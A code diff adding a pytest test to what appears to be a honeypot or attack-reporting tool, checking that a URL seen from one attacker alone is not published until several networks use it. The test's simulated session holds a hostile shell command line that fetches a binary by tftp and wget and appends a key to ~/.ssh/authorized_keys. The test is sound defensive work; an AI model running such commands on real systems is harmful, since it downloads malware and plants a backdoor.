@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 from datetime import datetime, timedelta
 from pathlib import Path
@@ -81,3 +82,25 @@ def test_other_settings_of_the_gate_are_applied_to_what_was_judged_before(tmp_pa
     bench.settle()
     assert rows(bench) == []
     bench.close()
+
+
+def test_somebody_alone_changes_nothing_of_what_is_told_of_a_url_that_is_out(bench: Bench) -> None:
+    attack(bench, "203.0.113.7")
+    attack(bench, "198.51.100.77")
+    before = told(bench)
+    bench.time += timedelta(days=3)
+    session = bench.visit(
+        b"tftp -g -r mips 198.51.100.9; wget " + URL + b"; crontab -l; echo k >> ~/.ssh/authorized_keys",
+        asks=[(URL, b"y")], runs=[[b"./y"]], address="192.0.2.66",
+    )  # fmt: skip
+    bench.trap_fetches(URL, session)
+    bench.settle()
+    assert told(bench) == before
+    attack(bench, "198.51.100.78")
+    assert told(bench) != before, "with two networks on one day, all that is known is told"
+
+
+def told(bench: Bench) -> dict[str, object]:
+    with bench.store.connect() as connection:
+        found: dict[str, object] = json.loads(connection.execute(select(publications.c.told)).scalar_one())
+    return found
